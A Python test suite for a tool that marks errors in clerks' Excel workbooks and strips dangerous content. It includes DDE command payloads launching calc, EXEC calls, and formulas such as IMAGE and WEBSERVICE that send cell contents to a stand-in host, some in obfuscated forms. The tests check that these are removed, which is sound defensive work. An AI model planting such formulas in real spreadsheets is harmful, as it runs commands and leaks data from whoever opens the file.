"""Marks in workbooks of every kind: they stand where they should, and nothing else is touched."""

import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest
import xlsxwriter
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from openpyxl.styles import PatternFill
from openpyxl.styles.colors import Color
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from taizhang.division import county
from taizhang.extract import RECEIPT_SHEET, read_file
from taizhang.marking import FrontSheet, Mark, marked
from taizhang.ooxml import Package, UnusualPackageError
from taizhang.receipt import handle, receipt
from taizhang.sheet import read_sheets
from tests.extracts import DAY, MALE, ROWS
from tests.workbooks import sheet_xml, xlsx_with

FRONT = FrontSheet(RECEIPT_SHEET, [10.0], [[("台账回执", "title")]], 0, [])
GREEN = "FF92D050"
COLOURS = {"error": "FFFFC7CE", "warning": "FFFFEB9C"}
WRONG = MALE[:-1] + "8"

Cell = str | int | float | bool | date | None
Table = list[list[Cell]]
Merged = tuple[int, int, int, int]
texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=12)
cells = st.one_of(
    st.none(),
    texts.filter(lambda text: not text.startswith("=")),
    st.integers(-(10**9), 10**9),
    st.floats(-1e9, 1e9),
    st.booleans(),
    st.dates(date(1950, 1, 1), date(2050, 1, 1)),
)
tables = st.lists(st.lists(cells, min_size=4, max_size=4), min_size=1, max_size=5)
mergings = st.none() | st.tuples(st.integers(1, 3), st.integers(1, 3), st.integers(1, 2), st.integers(1, 2))
places = st.dictionaries(
    st.tuples(st.integers(1, 7), st.integers(1, 6)), st.sampled_from(sorted(COLOURS)), min_size=1, max_size=8
)


def by_openpyxl(table: Table, merged: Merged | None) -> bytes:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.title = "表"
    for row in table:
        sheet.append(row)
    for number in range(1, len(table) + 1):
        sheet.cell(number, 2).fill = PatternFill("solid", fgColor=GREEN)
    sheet.column_dimensions["D"].fill = PatternFill("solid", fgColor=GREEN)
    if merged:
        top, left, height, width = merged
        sheet.merge_cells(start_row=top, start_column=left, end_row=top + height, end_column=left + width)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def by_xlsxwriter(table: Table, merged: Merged | None) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"strings_to_formulas": False, "strings_to_urls": False})
    green, day = workbook.add_format({"bg_color": "#92D050", "bold": True}), workbook.add_format({"num_format": 14})
    sheet = workbook.add_worksheet("表")
    sheet.set_row(2, None, green)
    sheet.set_column(5, 5, 20, green)
    for row, line in enumerate(table):
        for column, value in enumerate(line):
            sheet.write(row, column, value, day if isinstance(value, date) else green if column == 1 else None)
    if merged:
        top, left, height, width = merged
        sheet.merge_range(top - 1, left - 1, top - 1 + height, left - 1 + width, "合并")
    workbook.close()
    return buffer.getvalue()


def shown(merged: Merged | None, place: tuple[int, int]) -> str:
    """The cell at which a mark is seen."""
    row, column = place
    if merged:
        top, left, height, width = merged
        if top <= row <= top + height and left <= column <= left + width:
            row, column = top, left
    return f"{get_column_letter(column)}{row}"


def values(sheet: Worksheet) -> dict[str, tuple[Any, str]]:
    return {
        cell.coordinate: (cell.value, cell.number_format)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def filled(sheet: Worksheet) -> dict[str, str]:
    """The cells that are of one of our colours."""
    severities = {colour: severity for severity, colour in COLOURS.items()}
    found = {cell.coordinate: str(cell.fill.start_color.rgb) for row in sheet.iter_rows() for cell in row}
    return {cell: severities[colour] for cell, colour in found.items() if colour in severities}


def commented(sheet: Worksheet) -> set[str]:
    return {cell.coordinate for row in sheet.iter_rows() for cell in row if cell.comment}


@settings(max_examples=60, deadline=None)
@given(st.sampled_from([by_openpyxl, by_xlsxwriter]), tables, mergings, places)
def test_marks_stand_where_they_should_and_every_cell_reads_as_before(
    write: Callable[[Table, Merged | None], bytes],
    table: Table,
    merged: Merged | None,
    at: dict[tuple[int, int], str],
) -> None:
    clerks = write(table, merged)
    marks = [Mark("表", f"{get_column_letter(place[1])}{place[0]}", severity, "改") for place, severity in at.items()]
    returned = marked(clerks, marks, FRONT)
    before, after = (load_workbook(io.BytesIO(content))["表"] for content in (clerks, returned))
    assert values(after) == values(before)
    assert after.merged_cells.ranges == before.merged_cells.ranges
    expected: dict[str, str] = {}
    for place, severity in at.items():
        cell = shown(merged, place)
        expected[cell] = min(severity, expected.get(cell, severity))
    assert filled(after) == expected
    assert commented(after) == set(expected)
    assert read_sheets(returned)[1].cells.equals(read_sheets(clerks)[0].cells)


def clerks_workbook(**changed: str) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet("务工")
    row = ROWS["employment"] | changed
    sheet.write_row(0, 0, list(row))
    sheet.write_row(1, 0, list(row.values()))
    sheet.write_comment(1, 0, "问过本人", {"author": "村里"})
    workbook.close()
    return buffer.getvalue()


def answered(content: bytes) -> bytes:
    return receipt(content, handle("台账.xlsx", county(), read_file(content, county(), DAY)))


def with_part(content: bytes, source: str, kind: str, name: str, part: bytes) -> bytes:
    """The workbook with one more part, to which another relates."""
    package = Package(content)
    package.relate(source, kind, name)
    package.write(name, part, "application/octet-stream")
    return package.save()


SHEET = "xl/worksheets/sheet1.xml"


def test_macros_are_left_out_and_the_rest_stays() -> None:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet("务工")
    row = ROWS["employment"] | {"身份证号": WRONG}
    sheet.write_row(0, 0, list(row))
    sheet.write_row(1, 0, list(row.values()))
    workbook.add_vba_project(io.BytesIO(b"not a real one"), is_stream=True)
    workbook.close()
    clerks = buffer.getvalue()
    assert "xl/vbaProject.bin" in Package(clerks).names
    package = Package(answered(clerks))
    assert not [name for name in package.names if "vba" in name.lower()]
    assert b"macroEnabled" not in package.read("[Content_Types].xml")
    assert filled(load_workbook(io.BytesIO(answered(clerks)))["务工"]) == {"B2": "error"}


@pytest.mark.parametrize(
    ("source", "kind", "name"),
    [
        (SHEET, "oleObject", "xl/embeddings/oleObject1.bin"),
        (SHEET, "control", "xl/activeX/activeX1.xml"),
        (SHEET, "package", "xl/embeddings/Microsoft_Word.docx"),
        ("xl/workbook.xml", "connections", "xl/connections.xml"),
        ("xl/workbook.xml", "xlMacrosheet", "xl/macrosheets/sheet1.xml"),
    ],
)
def test_of_a_workbook_that_might_execute_something_the_cells_are_copied(source: str, kind: str, name: str) -> None:
    clerks = with_part(clerks_workbook(身份证号=WRONG), source, kind, name, b"<x/>")
    returned = answered(clerks)
    assert name not in Package(returned).names
    assert filled(load_workbook(io.BytesIO(returned))["务工"]) == {"B2": "error"}
    assert read_sheets(returned)[1].cells.equals(read_sheets(clerks)[0].cells)


LINK = '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{}</externalLink>'


def test_a_workbook_without_looks_gets_them_where_every_program_finds_them() -> None:
    plain = xlsx_with(sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row>'))
    sheet = load_workbook(io.BytesIO(marked(plain, [Mark("务工", "A1", "error", "x")], FRONT)))["务工"]
    assert filled(sheet) == {"A1": "error"}


def linked(inside: str) -> bytes:
    part = LINK.format(inside).encode()
    name = "xl/externalLinks/externalLink1.xml"
    return with_part(clerks_workbook(身份证号=WRONG), "xl/workbook.xml", "externalLink", name, part)


def test_a_link_to_another_workbook_is_never_followed() -> None:
    package = Package(answered(linked("<externalBook/>")))
    assert b'updateLinks="never"' in package.read("xl/workbook.xml")


def test_a_link_to_a_running_program_is_left_out() -> None:
    returned = answered(linked('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'))
    assert not [name for name in Package(returned).names if "externalLink" in name]
    assert filled(load_workbook(io.BytesIO(returned))["务工"]) == {"B2": "error"}


def with_formula(formula: str) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer)
    sheet = workbook.add_worksheet("务工")
    row = ROWS["employment"] | {"身份证号": WRONG}
    sheet.write_row(0, 0, [*row, "备注"])
    sheet.write_row(1, 0, list(row.values()))
    sheet.write_formula(1, len(row), f"={formula}", None, "7")
    workbook.close()
    return buffer.getvalue()


def formulas(content: bytes) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content))["务工"]
    return [cell.value for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /C calc'!A0", 'WEBSERVICE("http://x")', 'call("kernel32","x","y")', '_xlfn.IMAGE("http://x/"&C4)',
        'IF(A2="",1,image ("http://x/"&C4))', "_xlfn.STOCKHISTORY(A2)", "_xlfn._xlws.PY(0,0,A2)",
        '_xlfn.TRANSLATE(A2,"a","b")', '_xlfn.COPILOT("sum",A2)', '_xlfn.IMPORTCSV("http://x/"&C4)',
        'IMPORTDATA("http://x/"&C4)', 'CUBEVALUE("x",A2)', 'RTD("x","",A2)', 'DDE("soffice","x","y")',
        'SQL.REQUEST("x",A2)', 'REGISTER.ID("x","y")', 'EXEC("calc")',
    ],
)  # fmt: skip
def test_a_formula_that_calls_out_is_copied_as_its_value(formula: str) -> None:
    returned = answered(with_formula(formula))
    assert formulas(returned) == []
    after = load_workbook(io.BytesIO(returned))["务工"]
    assert after.cell(2, len(ROWS["employment"]) + 1).value == "7"


@pytest.mark.parametrize(
    "formula",
    [
        "SUM(A2,1)",
        '_xlfn.DISPIMG("ID_1",1)',
        'HYPERLINK("#A1","总表")',
        'TEXT(MID(B2,7,8),"0000年")&"IMAGE"',
        "[1]Sheet1!A1",
    ],
)
def test_a_formula_that_stays_within_the_workbook_stays(formula: str) -> None:
    assert formulas(answered(with_formula(formula))) == [f"={formula}"]


@pytest.mark.parametrize(
    "hidden",
    [
        "&#73;MAGE(A2)",
        "I&#x4d;AGE(A2)",
        "IMAGE&#40;A2)",
        "IMA<!-- -->GE(A2)",
        "<![CDATA[IMAGE(A2)]]>",
        "IMA<?x?>GE(A2)",
    ],
)
def test_a_call_is_found_however_it_is_written(hidden: str) -> None:
    package = Package(with_formula("SUM(A2,1)"))
    package.write(SHEET, package.read(SHEET).replace(b"SUM(A2,1)", hidden.encode()))
    assert formulas(answered(package.save())) == []


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7"])
def test_a_sheet_in_another_encoding_hides_no_formula(encoding: str) -> None:
    package = Package(with_formula('WEBSERVICE("http://x")'))
    text = package.read(SHEET).decode().replace('encoding="UTF-8"', f'encoding="{encoding}"')
    package.write(SHEET, text.encode(encoding))
    with pytest.raises(UnusualPackageError, match="UTF-8"):
        marked(package.save(), [], FRONT)


@pytest.mark.parametrize(
    "rule",
    [
        '<dataValidations><dataValidation sqref="A1"><formula1>IMAGE(A1)</formula1></dataValidation></dataValidations>',
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
        "<formula>_xlfn.WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>",
    ],
)
def test_a_rule_of_a_sheet_calls_out_no_more_than_a_cell(rule: str) -> None:
    package = Package(clerks_workbook())
    package.write(SHEET, package.read(SHEET).replace(b"</sheetData>", b"</sheetData>" + rule.encode()))
    with pytest.raises(UnusualPackageError, match="formula"):
        marked(package.save(), [], FRONT)


def test_a_table_whose_next_row_would_call_out_is_copied_as_its_values() -> None:
    column = b"<tableColumn><calculatedColumnFormula>IMAGE(A2)</calculatedColumnFormula></tableColumn>"
    content = with_part(clerks_workbook(), SHEET, "table", "xl/tables/table1.xml", b"<table>" + column + b"</table>")
    with pytest.raises(UnusualPackageError, match="formula"):
        marked(content, [], FRONT)


@pytest.mark.parametrize(
    ("target", "is_refused"), [("http://x/1.png", True), ("file:///\\\\x\\1.png", True), ("NULL", False)]
)
def test_a_picture_that_is_fetched_from_elsewhere_is_not_sent_back(target: str, is_refused: bool) -> None:
    drawing = "xl/drawings/drawing9.xml"
    package = Package(with_part(clerks_workbook(), SHEET, "drawing", drawing, b"<xdr:wsDr xmlns:xdr='x'/>"))
    relation = f'<Relationship Id="rId1" Type="x/relationships/image" Target="{target}" TargetMode="External"/>'
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    package.write(
        "xl/drawings/_rels/drawing9.xml.rels",
        f'<Relationships xmlns="{namespace}">{relation}</Relationships>'.encode(),
    )
    if is_refused:
        with pytest.raises(UnusualPackageError, match="picture"):
            marked(package.save(), [], FRONT)
    else:
        assert drawing in Package(marked(package.save(), [], FRONT)).names


def prefixed(content: bytes) -> bytes:
    """The workbook with its sheet's elements named `x:row` instead of `row`, as some exports do."""
    package = Package(content)
    declaration, _, body = package.read(SHEET).partition(b"<worksheet")
    named = re.sub(rb"<(/?)(\w)", rb"<\1x:\2", b"<worksheet" + body).replace(b"xmlns=", b"xmlns:x=", 1)
    package.write(SHEET, declaration + named)
    return package.save()


def test_a_sheet_with_prefixed_names_is_marked() -> None:
    clerks = prefixed(clerks_workbook(身份证号=WRONG))
    returned = answered(clerks)
    assert b"<x:row" in Package(returned).read(SHEET)
    assert filled(load_workbook(io.BytesIO(returned))["务工"]) == {"B2": "error"}
    assert read_sheets(returned)[1].cells.equals(read_sheets(clerks)[0].cells)


def test_a_conversation_does_not_contradict_what_is_told() -> None:
    name = "xl/threadedComments/threadedComment1.xml"
    returned = answered(with_part(clerks_workbook(姓名="张", 身份证号=WRONG), SHEET, "threadedComment", name, b"<x/>"))
    assert name not in Package(returned).names
    sheet = load_workbook(io.BytesIO(returned))["务工"]
    assert sheet["A2"].comment.text == "问过本人"
    assert "校验码不对" in sheet["B2"].comment.text


def test_a_receipt_handed_in_again_has_the_clerks_own_colours_and_remarks_back() -> None:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet.append(["x", "x", "x"])
    sheet["A1"].fill = PatternFill("solid", fgColor=GREEN)
    sheet["C1"].fill = PatternFill("solid", fgColor=Color(theme=4, tint=-0.25))
    sheet["A1"].comment = Comment("问过本人", "村里")
    buffer = io.BytesIO()
    workbook.save(buffer)
    clerks, marks = buffer.getvalue(), [Mark("Sheet", cell, "error", "改") for cell in ("A1", "B1", "C1")]

    def resaved(content: bytes) -> bytes:
        saved = io.BytesIO()
        load_workbook(io.BytesIO(content)).save(saved)
        return saved.getvalue()

    once = marked(clerks, marks, FRONT)
    assert set(filled(load_workbook(io.BytesIO(once))["Sheet"])) == {"A1", "B1", "C1"}
    twice = marked(resaved(once), marks[:2], FRONT)
    assert set(filled(load_workbook(io.BytesIO(twice))["Sheet"])) == {"A1", "B1"}
    last = load_workbook(io.BytesIO(marked(resaved(twice), [], FRONT)))["Sheet"]
    before = load_workbook(io.BytesIO(clerks))["Sheet"]
    assert [cell.fill.start_color for cell in last[1]] == [cell.fill.start_color for cell in before[1]]
    assert (last["A1"].comment.text, last["A1"].comment.author) == ("问过本人", "村里")
    assert commented(last) == {"A1"}


def test_a_colour_that_the_clerk_gave_a_marked_cell_since_stays() -> None:
    workbook = Workbook()
    workbook.worksheets[0]["A1"] = "x"
    buffer = io.BytesIO()
    workbook.save(buffer)
    once = load_workbook(io.BytesIO(marked(buffer.getvalue(), [Mark("Sheet", "A1", "error", "改")], FRONT)))
    once["Sheet"]["A1"].fill = PatternFill("solid", fgColor=GREEN)
    again = io.BytesIO()
    once.save(again)
    sheet = load_workbook(io.BytesIO(marked(again.getvalue(), [], FRONT)))["Sheet"]
    assert sheet["A1"].fill.start_color.rgb == GREEN
    assert not commented(sheet)


@pytest.mark.parametrize("addition", [b"<!-- x -->", b'<?x <row r="1">?>'])
def test_rows_that_could_be_mistaken_are_not_changed_as_text(addition: bytes) -> None:
    package = Package(clerks_workbook())
    package.write(SHEET, package.read(SHEET).replace(b"<sheetData>", b"<sheetData>" + addition))
    with pytest.raises(UnusualPackageError):
        marked(package.save(), [Mark("务工", "A2", "error", "改")], FRONT)


def test_a_part_that_does_not_inflate_is_told_as_damaged() -> None:
    content = bytearray(clerks_workbook())
    entry = zipfile.ZipFile(io.BytesIO(content)).getinfo("xl/styles.xml")
    data = entry.header_offset + 30 + len(entry.filename)
    content[data : data + 6] = b"\xff" * 6
    with pytest.raises(UnusualPackageError, match="damaged"):
        Package(bytes(content)).read("xl/styles.xml")


PARTS = [
    SHEET, "xl/workbook.xml", "xl/styles.xml", "xl/comments1.xml", "xl/drawings/vmlDrawing1.vml", "_rels/.rels",
    "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels",
]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(PARTS), st.floats(0, 0.999), st.integers(0, 30), st.binary(max_size=4))
def test_whatever_is_broken_in_a_workbook_it_is_answered(part: str, where: float, cut: int, put: bytes) -> None:
    package = Package(clerks_workbook(身份证号=WRONG))
    whole = package.read(part)
    at = int(where * len(whole))
    package.write(part, whole[:at] + put + whole[at + cut :])
    returned = Package(answered(package.save()))
    assert RECEIPT_SHEET.encode() in returned.read("xl/workbook.xml")
